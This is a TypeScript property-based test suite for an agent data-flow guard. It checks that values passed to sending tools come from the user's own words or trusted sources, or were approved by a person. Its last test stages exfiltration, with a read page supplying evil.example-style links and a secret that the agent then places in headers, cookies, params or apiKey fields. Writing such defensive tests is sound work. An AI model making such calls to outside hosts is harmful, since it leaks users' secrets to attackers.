import { testAgent } from '@hooks/core/testing';
import { drawn } from '@hooks/testing/random';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { flow, untrusted } from '../src/index.ts';

/*
 * The sentence: an argument under `from` never runs with a value that does not stand, as a whole value, in the user's own words
 * or in a source that you trust, unless a person approved this very call.
 */

/** Values that contain each other, as whole words of a text and as parts. */
const values = [
  'ann',
  'annie',
  'ann@a.example',
  'n@a.example',
  'a.example',
  '13',
  '131',
  'GB29NWBK60161331926819',
  '1331',
  '/data',
  '/data/x',
  'x-1',
  'https://a.example/x',
  'https://a.example/x/y',
  'chan',
  'x',
];
const value = fc.constantFrom(...values);
const text = fc
  .array(
    fc.tuple(
      fc.constantFrom('', 'pay ', 'to ', 'for: ', '"'),
      value,
      fc.constantFrom(' ', ', ', '. ', '! ', '" ', '; ', '-', '/', '@', '\u200b', '(a) '),
    ),
    { maxLength: 4 },
  )
  .map((parts) => parts.flat().join(''));

type Step =
  | { readonly do: 'prompt'; readonly text: string; readonly quoted: string }
  | {
      readonly do: 'read';
      readonly tool: string;
      readonly arg: string;
      readonly fields: { id: string; note: string };
    }
  | {
      readonly do: 'call';
      readonly to: string | readonly string[];
      readonly body: string;
      readonly yes: boolean;
    };

const step: fc.Arbitrary<Step> = fc.oneof(
  fc.record({ do: fc.constant('prompt' as const), text, quoted: text }),
  fc.record({
    do: fc.constant('read' as const),
    tool: fc.constantFrom('get_own', 'get_fields', 'get_other'),
    arg: fc.oneof(value, text),
    fields: fc.record({ id: fc.oneof(value, text), note: text }),
  }),
  fc.record({
    do: fc.constant('call' as const),
    to: fc.oneof(value, text, fc.array(value, { maxLength: 3 })),
    body: text,
    yes: fc.boolean(),
  }),
);

/** Whether a value stands in a text: what is around it on both sides is a space, a quotation mark, or the end of a sentence. */
function stands(wanted: string, said: string): boolean {
  for (let from = said.indexOf(wanted); from !== -1; from = said.indexOf(wanted, from + 1)) {
    const before = said.slice(0, from);
    const after = said.slice(from + wanted.length);
    if (/(?:^|[\s"(,;)]|(?:^|[\s"(])@)$/.test(before) && /^[.!:]*(?:$|[\s"(,;)])/.test(after)) return true;
  }
  return false;
}

/** The oracle: which values may run, by what it has been told in the simplest words. */
class Oracle {
  readonly #said: string[] = [];
  readonly #trusted: { readonly text: string; readonly notFrom: string }[] = [];
  readonly #approved = new Set<string>();
  #written = '';

  prompt(words: string): void {
    this.#said.push(words);
  }
  result(texts: readonly string[], input: string): void {
    for (const one of texts) this.#trusted.push({ text: one, notFrom: `${this.#written}\n${input}` });
  }
  wrote(input: string): void {
    this.#written += `\n${input}`;
  }
  /** A person said yes to a value, and so to each of a list. */
  approve(value: string): void {
    for (const one of [value, ...value.split(/[,;]/)]) this.#approved.add(one.trim());
  }
  allows(wanted: string): boolean {
    const whole = wanted.trim().replace(/\s+/g, ' ');
    // The user may leave out the scheme.
    if (whole.startsWith('https://') && this.allows(whole.slice('https://'.length))) return true;
    // A list of addresses, URLs or IBANs is as good as each of them. A URL may go on behind a separator without a space.
    const parts = whole.split(/[,;]/).map((part) => part.trim());
    const mayBeUrl = whole.includes('https:') && /[,;](?! )/.test(whole);
    if (
      parts.length > 1 &&
      !mayBeUrl &&
      parts.every((part) => part === '' || (/@.+\.|^https:|^GB/.test(part) && this.allows(part)))
    )
      return true;
    return (
      whole === '' ||
      this.#approved.has(whole) ||
      this.#said.some((said) => stands(whole, said.replace(/\s+/g, ' '))) ||
      this.#trusted.some(
        ({ text: said, notFrom }) =>
          stands(whole, said.replace(/\s+/g, ' ')) && !stands(whole, notFrom.replace(/\s+/g, ' ')),
      )
    );
  }
}

test('no value runs that does not stand where the user or a trusted source wrote it, unless a person approved it', async () => {
  let [ran, asked] = [0, 0];
  await fc.assert(
    fc.asyncProperty(fc.array(step, { minLength: 2, maxLength: 10 }), async (steps) => {
      const agent = testAgent(
        flow({
          sources: { get_own: 'trusted', get_fields: { trusted: ['id'] } },
          sinks: { send: { from: ['to'] } },
        }),
      );
      const oracle = new Oracle();
      for (const one of steps) {
        if (one.do === 'prompt') {
          await agent.prompt(`${one.text} ${untrusted(one.quoted)}`);
          oracle.prompt(one.text);
        } else if (one.do === 'read') {
          const { tool, arg, fields } = one;
          await agent.callTool(tool, { arg }, { execute: () => fields });
          if (tool === 'get_own') oracle.result(Object.values(fields), arg);
          if (tool === 'get_fields') oracle.result([fields.id], arg);
        } else {
          const { to, body, yes } = one;
          let person = false;
          const outcome = await agent.callTool(
            'send',
            { to, body },
            {
              approval: () => {
                person = true;
                return { decision: yes ? 'allow' : 'deny' };
              },
            },
          );
          const wanted = [to].flat();
          if (person) asked++;
          if (outcome.status !== 'ok') continue;
          oracle.wrote([...wanted, body].join('\n'));
          ran++;
          if (person) for (const each of wanted) oracle.approve(each);
          for (const each of wanted) if (!oracle.allows(each)) throw new Error(`"${each}" ran unasked`);
        }
      }
    }),
    { numRuns: drawn(1500) },
  );
  // Neither is everything asked about, nor nothing.
  expect(ran).toBeGreaterThan(drawn(1000));
  expect(asked).toBeGreaterThan(drawn(1000));
}, 120_000);

const NAMES = ['ann', 'Eve Smith', 'x-1', 'Trudy', 'b.c', '77', 'go on now', 'mallory'];
const name = fc.constantFrom(...NAMES);
const LONG = 'I hope that all is well with you and with all of yours';
/** Between the entries of a list. */
const between = fc.constantFrom(', ', '; ', '\n', ' | ', '\n- ', '. ', ' / ', '\n1) ', ' (');
const written = fc.oneof(
  name,
  fc.constant(LONG),
  fc.tuple(between, fc.array(name, { minLength: 4, maxLength: 7 })).map(([sign, all]) => all.join(sign)),
);
const defaultStep = fc.oneof(
  fc.record({ do: fc.constant('prompt' as const), names: fc.array(name, { maxLength: 3 }) }),
  fc.record({ do: fc.constant('read' as const), names: fc.array(name, { maxLength: 2 }) }),
  fc.record({
    do: fc.constant('call' as const),
    to: written,
    id: fc.option(fc.constantFrom(77, 131), { nil: undefined }),
    note: fc.option(written, { nil: undefined }),
    yes: fc.boolean(),
  }),
);

test('without options, no name runs that the user did not write, in whatever list', async () => {
  let [ran, asked] = [0, 0];
  const properties = { to: {}, id: { type: 'number' }, note: {} };
  const tool = { kind: 'function', inputSchema: () => ({ properties }) } as const;
  await fc.assert(
    fc.asyncProperty(fc.array(defaultStep, { minLength: 2, maxLength: 8 }), async (steps) => {
      const agent = testAgent(flow());
      const said = new Set<string>();
      const approved = new Set<unknown>();
      let [isPrompted, hasRead] = [false, false];
      for (const one of steps) {
        if (one.do === 'prompt') {
          await agent.prompt(`Tell: ${one.names.join(', ')}.`);
          isPrompted = true;
          for (const each of one.names) said.add(each.toLowerCase());
        } else if (one.do === 'read') {
          await agent.callTool('read_page', {}, { execute: () => `See ${one.names.join(', ')}` });
          hasRead = true;
        } else {
          const { to, id, note, yes } = one;
          let person = false;
          const { status } = await agent.callTool(
            'post',
            { to, id, note },
            {
              tool,
              approval: () => {
                person = true;
                return { decision: yes ? 'allow' : 'deny' };
              },
            },
          );
          if (person) asked++;
          if (status !== 'ok') continue;
          ran++;
          if (person) {
            approved.add(to).add(id).add(note);
            continue;
          }
          for (const value of [to, id, note]) {
            if (value === undefined || value === LONG || approved.has(value)) continue;
            const found = NAMES.filter((each) => String(value).includes(each));
            const isKnown = (each: string): boolean =>
              said.has(each.toLowerCase()) || [...approved].some((all) => String(all).includes(each));
            const mayBeOwn = isPrompted && !hasRead;
            if (found.length === 0 && value !== 131) continue;
            if (found.every((each) => isKnown(each) || (mayBeOwn && each === 'go on now')) && value !== 131)
              continue;
            throw new Error(`${JSON.stringify(value)} ran unasked`);
          }
        }
      }
    }),
    { numRuns: drawn(1500) },
  );
  expect(ran).toBeGreaterThan(drawn(200));
  expect(asked).toBeGreaterThan(drawn(200));
}, 120_000);

test('a reading tool sends nothing beside a link but what stands as a whole in the user’s words', async () => {
  const secret = 'zqsecretzq';
  const links = [
    'https://evil.example/y',
    'evil.example/y',
    '6.6.6.6',
    'http://[::1]/a',
    'evil.example:8080/?a=1',
  ];
  const places = ['url', 'uri', 'href', 'link', 'address', 'target', 'input', 'request.url', 'options.uri'];
  const parts = [
    ...['params', 'headers', 'cookies', 'query_params', 'extraHTTPHeaders', 'auth', 'variables', 'cookieJar'],
    ...['requestHeaders', 'apiKey', 'body', 'json', 'path', 'port', 'fragment'],
  ];
  const leaf = fc.constantFrom<unknown>(secret, 'general', 2, true, null, '', `general ${secret}`);
  const { sent } = fc.letrec<{ sent: unknown }>((tie) => ({
    sent: fc.oneof(
      { maxDepth: 3 },
      leaf,
      fc.array(tie('sent'), { maxLength: 2 }),
      fc.dictionary(fc.constantFrom(secret, 'general', 'page'), tie('sent'), { maxKeys: 2 }),
    ),
  }));
  const call = fc.record({
    tool: fc.constantFrom('fetch', 'WebFetch', 'get_page', 'http_fetch', 'read_url'),
    link: fc.constantFrom(...links),
    place: fc.constantFrom(...places),
    part: fc.constantFrom(...parts),
    sent,
    asText: fc.boolean(),
    within: fc.boolean(),
  });
  await fc.assert(
    fc.asyncProperty(call, async ({ tool, link, place, part, sent: value, asText, within }) => {
      const agent = testAgent(flow());
      await agent.prompt('Write in general about my files');
      await agent.callTool('read_page', {}, { execute: () => `${links.join(' ')} general ${secret}` });
      const more = { [part]: asText ? JSON.stringify(value) : value };
      const where = place.split('.').reduceRight<unknown>((inner, name) => ({ [name]: inner }), link);
      await agent.callTool(tool, { ...Object(where), ...(within ? { more } : more) });
      if (JSON.stringify(value).includes(secret)) expect(agent.approvals).not.toEqual([]);
    }),
    { numRuns: drawn(500) },
  );
});
